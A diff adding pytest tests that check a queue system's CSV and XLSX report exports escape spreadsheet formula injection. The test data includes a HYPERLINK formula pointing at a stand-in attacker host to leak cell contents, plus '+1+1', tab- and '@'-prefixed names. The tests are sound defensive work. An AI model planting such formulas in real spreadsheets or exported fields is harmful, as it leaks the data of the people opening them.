@@ -111,3 +111,70 @@ def test_time_zones_are_checked_at_the_branch_too(branch) -> None:  # noqa: ANN0
     raw["branch"]["timezone"] = "Mars/Olympus"
     with pytest.raises(ConfigError, match="timezone"):
         parse_config(raw)
+
+
+# ---- spreadsheets: branch text never becomes a live formula ---------------------------------
+
+LIVE = '=HYPERLINK("http://e.vil/?"&A1,"PR1")'
+
+
+def test_branch_text_reaches_the_national_csv_and_xlsx_as_text(branch, hq_db: str,  # noqa: ANN001, F811
+                                                               hq_process: HQProcess) -> None:  # noqa: F811
+    import csv
+    import io
+    import json
+
+    import jdatetime
+    from navbat.hq.accounts import add_user
+    from openpyxl import load_workbook
+
+    with connect(hq_db) as conn:
+        token = add_branch(conn, "@tehran-01", "تهران", "-مرکزی", "1")
+        add_user(conn, "boss", "national", "9999")
+    events, _ = day_events(branch, DAY, simulated_day(branch, 40, 1), 1, 1, 1)
+    events = json.loads(json.dumps(events).replace('"PR1"', json.dumps(LIVE)))  # a sub-service code with a formula
+    s = requests.Session()
+    r = s.post(f"{hq_process.url}/api/v1/hq/ingest", headers={"Authorization": f"Bearer {token}"}, timeout=30,
+               json={"after": 0, "last_id": events[-1]["id"], "events": events, "profile": profile(branch)})
+    assert r.status_code == 200, r.text
+    boss = {"Authorization": "Bearer " + s.post(f"{hq_process.url}/api/v1/hq/login", timeout=30, json={
+        "username": "boss", "pin": "9999"}).json()["token"]}
+    j = jdatetime.date.fromgregorian(date=DAY)
+    month = f"{j.year}-{j.month:02d}"
+    text = s.get(f"{hq_process.url}/api/v1/hq/report?month={month}&format=csv", headers=boss, timeout=30).text
+    rows = list(csv.reader(io.StringIO(text)))
+    assert ["تهران", "'-مرکزی", "'@tehran-01", "'" + LIVE] in [row[:4] for row in rows]  # before: LIVE as it was
+    xlsx = s.get(f"{hq_process.url}/api/v1/hq/report?month={month}&format=xlsx", headers=boss, timeout=30).content
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not [c for c in cells if c.data_type == "f"]  # before: a formula cell
+    assert "'" + LIVE in [c.value for c in cells]
+    s.close()
+
+
+def test_the_hubs_exports_neutralise_names(branch, tmp_path) -> None:  # noqa: ANN001
+    import csv
+    import io
+
+    from navbat.server.reports import build_report, parse_month
+    from navbat.server.reports.export import to_csv, to_xlsx
+    from openpyxl import load_workbook
+
+    from tests.conftest import make_app
+
+    raw = branch.model_dump(mode="json")
+    raw["units"][0]["services"][0]["name"] = {"fa": "+1+1", "en": LIVE}
+    raw["units"][0]["name"] = {"fa": "\tunit", "en": "@unit"}
+    odd = parse_config(raw)
+    hub = make_app(odd, tmp_path / "hub.sqlite").extensions["navbat.hub"]
+    with hub.read() as db:
+        report = build_report(db, odd, parse_month("1405-08"))
+    hub.stop()
+    rows = list(csv.reader(io.StringIO(to_csv(report, "en"))))
+    labels = {row[1] for row in rows}
+    assert "'" + LIVE in labels and LIVE not in labels  # before: LIVE
+    assert "'+1+1" in {row[1] for row in csv.reader(io.StringIO(to_csv(report, "fa")))}
+    book = load_workbook(io.BytesIO(to_xlsx(report, "en")))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # before: formula cells in two sheets
+    assert "'" + LIVE in [c.value for c in cells] and "'@unit" in [c.value for c in cells]  # the units sheet
